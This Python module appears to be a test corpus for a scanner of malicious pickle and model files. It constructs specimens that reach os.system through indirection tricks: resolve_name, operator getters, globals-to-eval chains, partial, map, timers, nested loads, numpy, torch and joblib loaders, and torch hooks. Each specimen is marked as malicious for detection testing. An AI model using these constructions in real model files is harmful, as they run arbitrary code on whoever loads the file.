"""Harmless-looking callables that reach, or call, anything else."""

from __future__ import annotations

from typing import Final

from tests.corpus.formats.numpy_files import npy_objects
from tests.corpus.formats.pickles import (
    BUILD,
    EMPTY_TUPLE,
    NONE,
    REDUCE,
    TRUE,
    binary,
    call,
    dictionary,
    glob,
    integer,
    list_of,
    stack_glob,
    stream,
    text,
    tuple_of,
)
from tests.corpus.malicious.common import ATTACK, pickled
from tests.corpus.payloads import SHELL
from tests.corpus.specimen import MALICIOUS, NEVER_CLEAN, Proof, Specimen

SYSTEM: Final = glob("os", "system")
GETATTR: Final = glob("builtins", "getattr")


def specimens() -> list[Specimen]:
    return [*_by_name(), *_by_operator(), *_by_call(), *_by_loader(), *_by_hook()]


def _by_name() -> list[Specimen]:
    resolved = call(glob("pkgutil", "resolve_name"), text("os:system"))
    module = call(glob("importlib", "import_module"), text("os"))
    built_in = call(glob("builtins", "__import__"), text("os"))
    located = call(glob("pydoc", "locate"), text("os.system"))
    return [
        pickled(
            "pickle-GHSA-vvpj-8cmc-gx39",
            "GHSA-vvpj-8cmc-gx39",
            "pkgutil.resolve_name turns text into any callable: no other name is needed",
            stream(4, call(resolved, text(SHELL))),
        ),
        pickled(
            "pickle-import-module",
            "universal indirection",
            "importlib.import_module, then getattr",
            stream(4, call(call(GETATTR, module, text("system")), text(SHELL))),
        ),
        pickled(
            "pickle-builtin-import",
            "universal indirection",
            "builtins.__import__, then getattr",
            stream(4, call(call(GETATTR, built_in, text("system")), text(SHELL))),
        ),
        pickled(
            "pickle-pydoc-locate",
            "universal indirection",
            "pydoc.locate turns text into any callable",
            stream(4, call(located, text(SHELL))),
        ),
    ]


def _by_operator() -> list[Specimen]:
    system = call(call(glob("operator", "attrgetter"), text("system")), _module("os"))
    caller = call(glob("operator", "methodcaller"), text("system"), text(SHELL))
    globals_ = call(call(glob("operator", "attrgetter"), text("__globals__")), glob("collections", "namedtuple"))
    sys = call(call(glob("operator", "itemgetter"), text("_sys")), globals_)
    modules = call(call(glob("operator", "attrgetter"), text("modules")), sys)
    chained = call(call(glob("operator", "itemgetter"), text("os")), modules)
    return [
        pickled(
            "pickle-attrgetter",
            "universal indirection",
            "operator.attrgetter takes system from a module",
            stream(4, call(system, text(SHELL))),
        ),
        pickled(
            "pickle-methodcaller",
            "universal indirection",
            "operator.methodcaller calls it without ever holding it",
            stream(4, call(caller, _module("os"))),
        ),
        pickled(
            "pickle-getter-chain",
            "universal indirection",
            "From a function's globals to sys, its modules, and os, by getters alone",
            stream(4, call(caller, chained)),
        ),
        pickled(
            "pickle-getattr-of-class",
            "universal indirection",
            "getattr on an allowed class reaches its initialiser's globals, and the builtins among them",
            stream(4, _through_globals()),
        ),
    ]


def _module(name: str) -> bytes:
    return call(glob("builtins", "__import__"), text(name))


def _through_globals() -> bytes:
    """getattr(Counter.update, "__globals__")["__builtins__"]["eval"](…), with dict's own getter."""
    update = call(GETATTR, glob("collections", "Counter"), text("update"))
    globals_ = call(GETATTR, update, text("__globals__"))
    builtins = call(call(GETATTR, globals_, text("get")), text("__builtins__"))
    evaluate = call(call(GETATTR, builtins, text("get")), text("eval"))
    return call(evaluate, text(f"__import__('os').system({SHELL!r})"))


def _by_call() -> list[Specimen]:
    partial = call(glob("functools", "partial"), SYSTEM, text(SHELL))
    mapped = call(glob("builtins", "map"), SYSTEM, list_of(text(SHELL)))
    factory = call(glob("collections", "defaultdict"), partial)
    filled = call(glob("operator", "getitem"), factory, text("weights"))
    return [
        pickled(
            "pickle-partial",
            "partial",
            "functools.partial, called without arguments",
            stream(4, partial, EMPTY_TUPLE, REDUCE),
        ),
        pickled(
            "pickle-map",
            "lazy call",
            "map over os.system, run by list",
            stream(4, call(glob("builtins", "list"), mapped)),
        ),
        pickled(
            "pickle-map-frozenset",
            "lazy call",
            "The same, run by an allowed container",
            stream(4, call(glob("builtins", "frozenset"), mapped)),
        ),
        pickled("pickle-default-factory", "lazy call", "A defaultdict's factory, run by a look-up", stream(4, filled)),
        pickled(
            "pickle-default-factory-armed",
            "lazy call",
            "The same without the look-up: the first reader of the model does it",
            stream(4, factory),
            loader=None,
        ),
        pickled(
            "pickle-thread",
            "lazy call",
            "A timer thread calls it a moment after the load",
            stream(4, _timer()),
        ),
    ]


def _timer() -> bytes:
    timer = call(glob("threading", "Timer"), integer(0), SYSTEM, tuple_of(text(SHELL)))
    return call(call(GETATTR, timer, text("start")))


def _by_loader() -> list[Specimen]:
    inner = stream(2, ATTACK)
    loaded = call(stack_glob("numpy", "load"), text("arrays.npy"), NONE, TRUE)
    return [
        pickled(
            "pickle-nested-loads",
            "nested pickle",
            "pickle.loads of bytes",
            stream(4, call(glob("_pickle", "loads"), binary(inner))),
        ),
        pickled(
            "pickle-nested-twice",
            "nested pickle",
            "The same two deep, by two names of the function",
            stream(4, call(glob("pickle", "loads"), binary(stream(4, call(glob("_pickle", "loads"), binary(inner)))))),
        ),
        Specimen(
            name="pickle-numpy-load",
            category="pickle",
            reference="allowed package",
            description="numpy.load with allow_pickle opens a second file, where the attack lies",
            files={"model.pkl": stream(4, loaded), "arrays.npy": npy_objects(stream(2, ATTACK))},
            expected=MALICIOUS,
            proof=Proof(loader="pickle", path="model.pkl"),
        ),
        pickled(
            "pickle-torch-load",
            "allowed package",
            "torch.load opens a second file without weights_only",
            stream(4, call(stack_glob("torch.serialization", "load"), text("extra.bin"))),
            expected=NEVER_CLEAN,
            loader=None,
        ),
        pickled(
            "pickle-joblib-load",
            "allowed package",
            "joblib.load opens a second file",
            stream(4, call(stack_glob("joblib.numpy_pickle", "load"), text("extra.joblib"))),
            expected=NEVER_CLEAN,
            loader=None,
        ),
    ]


def _by_hook() -> list[Specimen]:
    """Everything that is called is on any list of allowed names; the attack waits in an argument."""
    hooks = call(glob("collections", "OrderedDict"), list_of(tuple_of(integer(0), SYSTEM)))
    storage = call(glob("torch", "FloatStorage"), integer(1))
    tensor = call(
        glob("torch._utils", "_rebuild_tensor_v2"),
        storage,
        integer(0),
        tuple_of(integer(1)),
        tuple_of(integer(1)),
        TRUE,
        hooks,
    )
    module = call(
        glob("copyreg", "_reconstructor"), glob("torch.nn.modules.linear", "Identity"), glob("builtins", "object"), NONE
    )
    return [
        pickled(
            "pickle-torch-backward-hook",
            "torch._utils hook",
            "A tensor rebuilt with os.system as its backward hook",
            stream(2, tensor),
            loader=None,
        ),
        pickled(
            "pickle-torch-forward-hook",
            "torch.nn hook",
            "A module whose forward hook is os.system: it runs at the first prediction",
            stream(2, module, dictionary({"_forward_hooks": hooks, "training": TRUE}), BUILD),
            loader=None,
        ),
    ]
